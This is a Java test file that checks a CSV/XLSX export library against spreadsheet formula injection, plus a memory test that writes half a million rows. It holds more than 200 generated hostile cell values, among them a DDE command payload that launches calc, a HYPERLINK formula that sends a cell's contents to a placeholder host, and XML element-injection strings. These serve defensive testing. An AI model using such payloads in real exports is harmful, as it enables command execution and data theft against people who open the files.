package io.lianke.exports;

import static org.assertj.core.api.Assertions.assertThat;

import de.siegmar.fastcsv.reader.CsvReader;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.ArrayList;
import java.util.List;
import java.util.Objects;
import java.util.zip.ZipFile;
import javax.xml.stream.XMLInputFactory;
import javax.xml.stream.XMLStreamConstants;
import org.junit.jupiter.api.Test;

/// I-8: no cell of foreign text becomes a formula, in neither format; read back by readers that are
/// not ours.
class TableFileTests {
    private static final List<String> LEADS =
            List.of(
                    "", " ", "  ", "\u00a0", "\u3000", "\ufeff", "\u200b", "\u200e", "\u0001", "\"",
                    "'", "\",\"", "a,b\n");
    private static final List<String> TRIGGERS =
            List.of(
                    "=", "+", "-", "@", "\t=", "\r=", "\n=", "\uff1d", "\uff0b", "\uff0d", "\uff20",
                    "=\"", "+\",", "\u2212", "\ufe66", "\ufe62");

    /// What a spreadsheet may take for the beginning of a formula, in front or behind what it does
    /// not show.
    private static final String FORMULA =
            "(?s)[\\s\\p{Z}\\p{Cf}\\p{Cc}\"]*[=+\\-@\uff1d\uff0b\uff0d\uff20\u2212\ufe66\ufe62].*";

    private static List<String> hostile() {
        var cells = new ArrayList<String>();
        for (var lead : LEADS) {
            for (var trigger : TRIGGERS) {
                cells.add(lead + trigger + "cmd|'/c calc'!A1");
            }
        }
        cells.add("+8613800138000");
        cells.add("=HYPERLINK(\"http://x/?\"&A1,\"y\")");
        cells.add("<f>1+1</f>");
        cells.add("</t></is></c><c><f>1+1</f></c>");
        cells.add("_x003D_1+1");
        cells.add("李雷\ud83d\ude00=1");
        return cells;
    }

    private static byte[] written(ExportFormat format, List<List<Cell>> rows) throws IOException {
        var bytes = new ByteArrayOutputStream();
        try (var table =
                TableFile.open(format, new TableFile.Title("Customers", "<by> A & B"), bytes)) {
            for (var row : rows) {
                table.row(row);
            }
            table.finish();
        }
        return bytes.toByteArray();
    }

    @Test
    void there_are_at_least_two_hundred_hostile_cells() {
        assertThat(hostile()).doesNotHaveDuplicates().hasSizeGreaterThanOrEqualTo(200);
    }

    @Test
    void no_hostile_cell_is_a_formula_in_csv_and_none_loses_its_text() throws IOException {
        var bytes =
                written(
                        ExportFormat.CSV,
                        hostile().stream()
                                .map(cell -> List.of(Cell.text("x"), Cell.text(cell)))
                                .toList());

        var text = new String(bytes, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\ufeff");
        var read = new ArrayList<String>();
        try (var csv = CsvReader.builder().ofCsvRecord(text.substring(1))) {
            for (var record : csv) {
                assertThat(record.getFieldCount()).isEqualTo(2);
                read.add(record.getField(1));
            }
        }
        assertThat(read).hasSameSizeAs(hostile()).noneMatch(cell -> cell.matches(FORMULA));
        for (int i = 0; i < read.size(); i++) {
            assertThat(read.get(i)).isIn(hostile().get(i), "'" + hostile().get(i));
        }
    }

    @Test
    void no_hostile_cell_is_a_formula_in_a_workbook_and_none_loses_its_text() throws Exception {
        var bytes =
                written(
                        ExportFormat.XLSX,
                        hostile().stream().map(cell -> List.of(Cell.text(cell))).toList());

        var read = texts(sheet(bytes));
        assertThat(read).hasSameSizeAs(hostile());
        for (int i = 0; i < read.size(); i++) {
            assertThat(seen(read.get(i))).isEqualTo(seen(hostile().get(i)));
        }
    }

    /// Without control characters, which XML cannot hold or reads in another way.
    private static String seen(String text) {
        return text.replaceAll("\\p{Cc}", "");
    }

    @Test
    void a_phone_is_a_text_and_an_amount_a_number() throws Exception {
        var row =
                List.of(
                        Cell.text("+8613800138000"),
                        Cell.number(new BigDecimal("-12.30")),
                        Cell.NOTHING);

        assertThat(new String(written(ExportFormat.CSV, List.of(row)), StandardCharsets.UTF_8))
                .isEqualTo("\ufeff\"'+8613800138000\",-12.30,\r\n");
        var sheet =
                new String(sheet(written(ExportFormat.XLSX, List.of(row))), StandardCharsets.UTF_8);
        assertThat(sheet).contains("t=\"inlineStr\"").contains("+8613800138000").contains("-12.30");
    }

    private static byte[] sheet(byte[] workbook) throws IOException {
        var file = Files.createTempFile("table", ".xlsx");
        try {
            Files.write(file, workbook);
            try (var zip = new ZipFile(file.toFile());
                    var sheet = zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml"))) {
                return sheet.readAllBytes();
            }
        } finally {
            Files.delete(file);
        }
    }

    /// The texts of the cells; an element that is a formula fails.
    private static List<String> texts(byte[] sheet) throws Exception {
        var found = new ArrayList<String>();
        InputStream in = new ByteArrayInputStream(sheet);
        var xml = XMLInputFactory.newInstance().createXMLStreamReader(in);
        var cell = new StringBuilder();
        var inText = false;
        while (xml.hasNext()) {
            switch (xml.next()) {
                case XMLStreamConstants.START_ELEMENT -> {
                    assertThat(xml.getLocalName()).isNotEqualTo("f");
                    if (xml.getLocalName().equals("c")) {
                        assertThat(xml.getAttributeValue(null, "t")).isEqualTo("inlineStr");
                        cell.setLength(0);
                    }
                    inText = xml.getLocalName().equals("t");
                }
                case XMLStreamConstants.CHARACTERS -> {
                    if (inText) {
                        cell.append(xml.getText());
                    }
                }
                case XMLStreamConstants.END_ELEMENT -> {
                    inText = false;
                    if (xml.getLocalName().equals("c")) {
                        found.add(cell.toString());
                    }
                }
                default -> {}
            }
        }
        return found;
    }

    /// A process of its own with a small heap writes many more rows than would fit.
    @Test
    void half_a_million_rows_are_written_with_32_MB() throws Exception {
        for (var format : ExportFormat.values()) {
            var process =
                    new ProcessBuilder(
                                    System.getProperty("java.home") + "/bin/java",
                                    "-Xmx32m",
                                    "-cp",
                                    System.getProperty("java.class.path"),
                                    Writing.class.getName(),
                                    format.name())
                            .redirectErrorStream(true)
                            .start();
            var said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);
            assertThat(process.waitFor()).as(said).isZero();
        }
    }

    /// What the small process runs.
    static final class Writing {
        private static final int ROWS = 500_000;

        private Writing() {}

        public static void main(String[] arguments) throws IOException {
            var format = ExportFormat.valueOf(Objects.requireNonNull(arguments[0]));
            try (var table =
                    TableFile.open(
                            format,
                            new TableFile.Title("Rows", "by"),
                            OutputStream.nullOutputStream())) {
                for (int i = 0; i < ROWS; i++) {
                    table.row(
                            List.of(
                                    Cell.text("a name of one's own with the number " + i),
                                    Cell.text("+86138" + i),
                                    Cell.number(i)));
                }
                table.finish();
            }
        }
    }
}
